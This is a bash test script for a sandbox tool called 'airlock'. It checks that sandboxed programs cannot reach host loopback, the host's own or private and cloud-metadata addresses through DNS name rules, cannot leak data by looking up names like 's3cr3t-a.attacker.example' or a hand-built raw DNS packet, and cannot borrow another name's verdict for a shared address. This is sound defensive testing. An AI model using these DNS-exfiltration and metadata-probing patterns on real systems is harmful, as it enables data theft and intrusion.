#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# Escapes through names: a hostile program that controls a name's DNS answers (a fake upstream
# on loopback here) tries to reach the host's loopback, its own addresses and the local
# network through a name rule; to carry data out in the names it looks up; and to have a
# connection decided under another name that shares its address. Traffic goes only to this
# machine's loopback and its own addresses; the other addresses in DNS answers are never
# connected to when airlock holds (198.51.100.0/24 is TEST-NET-2, and every ask about it is
# denied), and the servers' logs show that nothing arrived.
# shellcheck source=tests/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
require_sandbox

W=$T/work
cd "$W" || exit 1
# shellcheck source=tests/netlib.sh
. "$TOP/tests/netlib.sh"
# events NAME EXPR: EXPR on the newest session's events (as e, a list), printed.
events() {
	"$AIRLOCK" log --json "$(last_session)" >"$T/$1.events"
	"$PY" -c 'import json,sys
e=[json.loads(l) for l in open(sys.argv[1])]
print(eval(sys.argv[2]))' "$T/$1.events" "$2"
}

# One of the host's own addresses besides loopback, if it has one.
OWN=$("$PY" -c '
import socket, subprocess
out = subprocess.run(["ip", "-o", "-4", "addr"], capture_output=True, text=True).stdout
for line in out.splitlines():
    f = line.split()
    if f[1] != "lo":
        print(f[3].split("/")[0]); break' 2>/dev/null)

start_srv echo tcp 127.0.0.1
P=$(port echo)
start_srv dns dns 127.0.0.1 evil.example.org=127.0.0.1 own.example.org="${OWN:-127.0.0.2}" \
	lan.example.org=10.255.255.1 meta.example.org=169.254.169.254 \
	good.example.org=198.51.100.7 bad.example.org=198.51.100.7
PD=$(port dns)
DNS=(--dns-upstream "127.0.0.1:$PD")

# connect.py [NAME|-] ADDR PORT: look NAME up (unless -), then connect to ADDR:PORT and echo.
cat >"$T/connect.py" <<'PY'
import errno, socket, sys
name, addr, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
if name != "-":
    try:
        socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)
    except socket.gaierror as e:
        print("lookup:", "NXDOMAIN" if e.errno == socket.EAI_NONAME else e)
s = socket.socket(); s.settimeout(5)
try:
    s.connect((addr, port)); s.sendall(b"ping"); print(s.recv(100).decode())
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e)))
PY

# ctl.py DNS-ANSWER CONNECT-ANSWER LOG -- airlock run ARGS...: an approver on fd:N answering
# every "dns" ask and every "connect" ask as told (allow/deny; none: never), each ask logged as
# a JSON line.
cat >"$T/ctl.py" <<'PY'
import json, os, socket, subprocess, sys
dns_answer, conn_answer, log = sys.argv[1:4]
cmd = sys.argv[5:]
a, b = socket.socketpair()
cmd = ["fd:%d" % b.fileno() if x == "fd:N" else x for x in cmd]
p = subprocess.Popen(cmd, pass_fds=[b.fileno()])
b.close()
f = a.makefile("rwb")
with open(log, "w") as out:
    for line in f:
        q = json.loads(line)
        if q.get("type") != "ask":
            continue
        out.write(json.dumps(q) + "\n"); out.flush()
        d = dns_answer if q["class"] == "dns" else conn_answer
        if d == "none":
            continue
        f.write((json.dumps({"id": q["id"], "decision": d, "remember": "once"}) + "\n").encode())
        f.flush()
sys.exit(p.wait())
PY
# ctl DNS-ANSWER CONNECT-ANSWER NAME ARGS...: airlock run ARGS... under ctl.py; asks in $T/NAME.asks.
ctl() {
	local d=$1 c=$2 name=$3
	shift 3
	"$PY" "$T/ctl.py" "$d" "$c" "$T/$name.asks" -- "$AIRLOCK" run --review never --ask fd:N "$@"
}
asks() { "$PY" -c 'import json,sys
q=[json.loads(l) for l in open(sys.argv[1])]
print(eval(sys.argv[2]))' "$T/$1.asks" "$2"; }

# --- 3. a name rule never opens the host's loopback or its own addresses ------------------
rules wild "allow connect *.example.org"
out=$(al_run "${DNS[@]}" -r "$T/wild.rules" -- "$PY" "$T/connect.py" evil.example.org 127.0.0.1 "$P" 2>/dev/null)
is "$out" ECONNREFUSED "a name whose DNS answer is 127.0.0.1 leaves 127.0.0.1 the sandbox's own"
out=$(al_run "${DNS[@]}" -r "$T/wild.rules" -- "$PY" "$T/connect.py" - 127.0.0.1 "$P" 2>/dev/null)
is "$out" ECONNREFUSED "  and a bare-IP connect inherits nothing"
rules exact "allow connect evil.example.org:$P"
out=$(al_run "${DNS[@]}" -r "$T/exact.rules" -- "$PY" "$T/connect.py" evil.example.org 127.0.0.1 "$P" 2>/dev/null)
is "$out" ECONNREFUSED "  nor does a rule naming that very name and port"
is "$(seen echo conn)" 0 "the host's loopback server saw nothing"
rules local "allow connect *.example.org
allow connect localhost:$P"
out=$(al_run "${DNS[@]}" -r "$T/local.rules" -- "$PY" "$T/connect.py" evil.example.org 127.0.0.1 "$P" 2>/dev/null)
is "$out" ping "a rule naming localhost reaches it (control)"
is "$(events local "[(x.get('name'), x.get('names'), x['decision']) for x in e if x.get('class')=='connect' and x.get('name')]")" \
	"[('localhost', ['evil.example.org'], 'allow')]" "  decided as localhost, the name looked up recorded beside it"

if [ -n "$OWN" ]; then
	start_srv own tcp "$OWN"
	PO=$(port own)
	rules ownw "allow connect *.example.org
allow connect *:$PO"
	out=$(al_run "${DNS[@]}" -r "$T/ownw.rules" -- "$PY" "$T/connect.py" own.example.org "$OWN" "$PO" 2>/dev/null)
	is "$out" EACCES "the host's own address ($OWN) is not opened by a name rule, nor by *:PORT"
	is "$(seen own conn)" 0 "  its server saw nothing"
	rules owna "allow connect $OWN:$PO"
	out=$(al_run "${DNS[@]}" -r "$T/owna.rules" -- "$PY" "$T/connect.py" - "$OWN" "$PO" 2>/dev/null)
	is "$out" ping "a rule naming the address reaches it (control)"
else
	skip "the host's own address is not opened by a name rule" "no address besides loopback here"
fi

# Private and link-local answers: a decision, never automatic.
out=$(al_run --ask deny "${DNS[@]}" -r "$T/wild.rules" -- sh -c "
	'$PY' '$T/connect.py' lan.example.org 10.255.255.1 9
	'$PY' '$T/connect.py' meta.example.org 169.254.169.254 80" 2>/dev/null | paste -sd' ')
is "$out" "EACCES EACCES" "a name rule alone opens no private or metadata address (--ask deny)"
ctl allow deny priv "${DNS[@]}" -r "$T/wild.rules" -- "$PY" "$T/connect.py" meta.example.org 169.254.169.254 80 >"$T/out" 2>/dev/null
is "$(cat "$T/out")" EACCES "  with an approver, it is asked (and denied here)"
is "$(asks priv "[(x['class'], x['name'], x['target'], bool(x.get('reason'))) for x in q]")" \
	"[('connect', 'meta.example.org', '169.254.169.254:80', True)]" "  the ask names the address and says why"

# --- 8. names do not leave when nobody can allow a connection to them --------------------
cat >"$T/lookup.py" <<'PY'
import socket, sys
try:
    socket.getaddrinfo(sys.argv[1], 443, socket.AF_INET); print("resolved")
except socket.gaierror as e:
    print("NXDOMAIN" if e.errno == socket.EAI_NONAME else e)
PY
out=$(al_run --ask deny "${DNS[@]}" -- "$PY" "$T/lookup.py" s3cr3t-a.attacker.example 2>/dev/null)
is "$out" NXDOMAIN "--ask deny under the default rules: a lookup is answered here"
is "$(seen dns "query s3cr3t-a")" 0 "  and the name never reached the upstream"
is "$(events leak "[(x['target'], x['decision'], x['by']) for x in e if x.get('class')=='dns'][:1]")" \
	"[('s3cr3t-a.attacker.example', 'deny', 'default')]" "  the query is recorded, denied by default (nobody can answer)"
out=$(al_run --ask deny "${DNS[@]}" -r "$T/wild.rules" -- "$PY" "$T/lookup.py" s3cr3t-b.attacker.example 2>/dev/null)
is "$out" NXDOMAIN "  the same beside a rule that allows other names"
is "$(seen dns "query s3cr3t-b")" 0 "  which never reach the upstream either"
out=$(al_run --ask allow "${DNS[@]}" -- "$PY" "$T/lookup.py" s3cr3t-d.attacker.example 2>/dev/null)
check "--ask allow: the lookup goes out (control)" grep -q "^query s3cr3t-d" "$T/dns.log"
ctl deny deny dnsask "${DNS[@]}" -- "$PY" "$T/lookup.py" s3cr3t-c.attacker.example >"$T/out" 2>/dev/null
is "$(cat "$T/out")" NXDOMAIN "with an approver, a lookup only an ask could open is asked; denied: NXDOMAIN"
is "$(asks dnsask "[(x['class'], x['target']) for x in q][:1]")" "[('dns', 's3cr3t-c.attacker.example')]" \
	"  the approver saw a dns ask naming it"
is "$(seen dns "query s3cr3t-c")" 0 "  and the name never reached the upstream"
# A query still waiting when the program ends is recorded too.
ctl none deny dnsgone "${DNS[@]}" -- "$PY" -c '
import socket, struct
q = struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l for l in [b"s3cr3t-e", b"attacker", b"example"]) + b"\0"
q += struct.pack("!2H", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ("127.0.0.53", 53))
try:
    s.recv(512)  # held: no answer comes; the ask is out long before this gives up
except socket.timeout:
    pass' >/dev/null 2>&1
is "$(asks dnsgone "[(x['class'], x['target']) for x in q]")" "[('dns', 's3cr3t-e.attacker.example')]" \
	"a query nobody answers is asked about"
is "$(events dnsgone "[(x['target'], x['decision'], x['result']) for x in e if x.get('class')=='dns']")" \
	"[('s3cr3t-e.attacker.example', 'none', 'gone')]" "  and recorded as gone when the sandbox ends"
is "$(seen dns "query s3cr3t-e")" 0 "  without reaching the upstream"
ctl allow deny dnsok "${DNS[@]}" -- "$PY" "$T/connect.py" good.example.org 198.51.100.7 443 >"$T/out" 2>/dev/null
is "$(cat "$T/out")" EACCES "allowed by the approver, the lookup goes out; the connection is asked on its own"
check "  the upstream was asked" grep -q "^query good.example.org 1" "$T/dns.log"
is "$(asks dnsok "[x['class'] for x in q]")" "['dns', 'connect']" "  one ask for the lookup, one for the connection"
is "$(events dnsok "[(x['decision'], x['by'], x.get('asked')) for x in e if x.get('class')=='dns' and x['op']=='query'][:1]")" \
	"[('allow', 'approver', True)]" "  the query is recorded as the approver's decision"

# --- 9. names that share an address: the strictest decides, every name is recorded -----
rules shared "ask connect *.example.org
deny connect bad.example.org:443"
cat >"$T/shared.py" <<'PY'
import errno, socket, sys
for n in sys.argv[1].split(","):
    socket.getaddrinfo(n, 443, socket.AF_INET, socket.SOCK_STREAM)
s = socket.socket(); s.settimeout(5)
try:
    s.connect(("198.51.100.7", int(sys.argv[2]))); print("connected")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e)))
PY
ctl allow deny shared "${DNS[@]}" -r "$T/shared.rules" -- "$PY" "$T/shared.py" bad.example.org,good.example.org 443 >"$T/out" 2>/dev/null
is "$(cat "$T/out")" EACCES "looked up last, an allowed name does not lend its verdict to a shared address"
is "$(asks shared "[x['class'] for x in q]")" "['dns', 'dns']" "  denied by the rule for the other name: not even asked"
is "$(events shared "[(x['name'], x['names'], x['decision'], x['by'].endswith('shared.rules:2')) for x in e if x.get('class')=='connect' and x.get('name')]")" \
	"[('bad.example.org', ['good.example.org', 'bad.example.org'], 'deny', True)]" \
	"  recorded under the name that decided, with every candidate"
ctl allow deny shared80 "${DNS[@]}" -r "$T/shared.rules" -- "$PY" "$T/shared.py" bad.example.org,good.example.org 80 >"$T/out" 2>/dev/null
is "$(cat "$T/out")" EACCES "at a port both names ask about, the connection is asked (denied here)"
is "$(asks shared80 "[(x['name'], x.get('names')) for x in q if x['class']=='connect']")" \
	"[('good.example.org', ['good.example.org', 'bad.example.org'])]" "  the ask lists every candidate name"
"$AIRLOCK" show "$(last_session)" >"$T/shared.txt"
check "airlock show lists the names" grep -q "looked up as good.example.org, bad.example.org" "$T/shared.txt"

done_testing
